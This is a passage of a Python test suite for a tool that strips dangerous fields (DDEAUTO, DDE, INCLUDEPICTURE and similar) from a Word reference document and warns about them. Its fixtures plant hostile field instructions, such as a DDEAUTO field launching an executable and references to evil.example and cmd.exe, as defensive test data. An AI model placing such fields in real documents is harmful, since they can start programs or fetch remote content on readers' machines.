                    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>built</w:t></w:r>'
                    '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    header.append(simple_field(" PAGE ", "1"))
    header.append(complex_field(" PA", "GE \\* Arabic ", shown="1"))
    footer = [
        complex_field(" DDEAUTO c:\\\\x.exe ", shown="footer-dde"),
        simple_field(" NUMPAGES ", "9"),
        simple_field(" FILENAME \\p ", "C:\\Users\\someone\\ref.docx"),
        simple_field(" FILENAME ", "ref.docx"),
    ]
    for story, runs in ((section.header, header), (section.footer, footer)):
        paragraph = story.paragraphs[0]._p
        for element in parse_xml(f'<w:p {nsdecls("w", "wp")}>{"".join(runs)}</w:p>'):
            paragraph.append(element)
    document.save(str(path))
    return path


def instructions(part: bytes) -> list[str]:
    """Every field instruction in a part, in both forms."""
    tree = etree.fromstring(part)
    found = [str(value).strip()
             for value in tree.xpath("//w:fldSimple/@w:instr", namespaces={"w": W_NS})]
    complex_ = "".join(
        "\0" if e.tag == f"{{{W_NS}}}fldChar" else (e.text or "")
        for e in tree.iter(f"{{{W_NS}}}fldChar", f"{{{W_NS}}}instrText"))
    return found + [piece.strip() for piece in complex_.split("\0") if piece.strip()]


def shown_text(part: bytes) -> str:
    return "".join(etree.fromstring(part).xpath("//w:t/text()", namespaces={"w": W_NS}))


def test_fields_word_would_run_are_removed_and_named(run, in_tmp: Path) -> None:
    reference = field_reference(in_tmp / "fields.docx")
    before = b"".join(everything(reference).values())
    for name in (*HOSTILE, "evil.example"):
        assert name.encode() in before, name  # the fixture really holds them
    result = render(run, reference)
    out = written(result, in_tmp)
    assert "Traceback" not in result.stderr
    assert (f"warning: reference document {reference}: removed fields Word would run: "
            "INCLUDEPICTURE, INCLUDETEXT, HYPERLINK, DDEAUTO, DDE, IF, a field built from "
            "another field, QUOTE, FILENAME \\p (they fetch files or addresses, or start programs, "
            "when the QSR is opened; page numbers, dates and the title stay)"
            ) in " ".join(result.stderr.split())
    assert result.stderr.count("removed fields") == 1, result.stderr
    parts = everything(out)
    header = next(data for name, data in parts.items() if name.startswith("word/header"))
    footer = next(data for name, data in parts.items() if name.startswith("word/footer"))
    for part in (header, footer):
        for word in (b"INCLUDEPICTURE", b"INCLUDETEXT", b"HYPERLINK", b"DDE", b"QUOTE", b"IF ",
                     b"evil.example", b"cmd.exe", b"\\p"):
            assert word not in part, word
    assert instructions(header) == ["PAGE", "PAGE \\* Arabic"]
    assert instructions(footer) == ["NUMPAGES", "FILENAME"]
    text = shown_text(header)
    # A removed field keeps what it showed when that is plain text in one paragraph...
    assert "ACME header simple-0complex-0simple-1complex-1simple-2complex-2" in text
    # ... and goes whole when it showed a picture, or held another field.
    assert b"<w:drawing" not in header and "nested-shown" not in text and "inner" not in text
    assert text.endswith("complex-4built11")  # the built field's shown text; two PAGEs
    shown = shown_text(footer)
    assert shown.startswith("footer-dde9C:\\Users\\someone\\ref.docx"), shown


def test_page_numbers_and_dates_stay_without_a_warning(run, in_tmp: Path) -> None:
    document = docx.Document()
    runs = (simple_field(" PAGE ", "1") + complex_field(" NUMPAGES ", shown="2")
            + complex_field(" DATE \\@ &quot;d MMMM yyyy&quot; ", shown="today")
            + simple_field(" STYLEREF Heading1 ", "h") + complex_field(" SECTIONPAGES ", shown="3"))
    paragraph = document.sections[0].footer.paragraphs[0]._p
    for element in parse_xml(f'<w:p {nsdecls("w")}>{runs}</w:p>'):
        paragraph.append(element)
    document.save(str(in_tmp / "plain.docx"))
    result = render(run, in_tmp / "plain.docx")
    out = written(result, in_tmp)
    assert "removed fields" not in result.stderr, result
    footer = next(data for name, data in everything(out).items() if name.startswith("word/footer"))
    assert instructions(footer) == ["PAGE", "STYLEREF Heading1", "NUMPAGES",
                                    'DATE \\@ "d MMMM yyyy"', "SECTIONPAGES"]
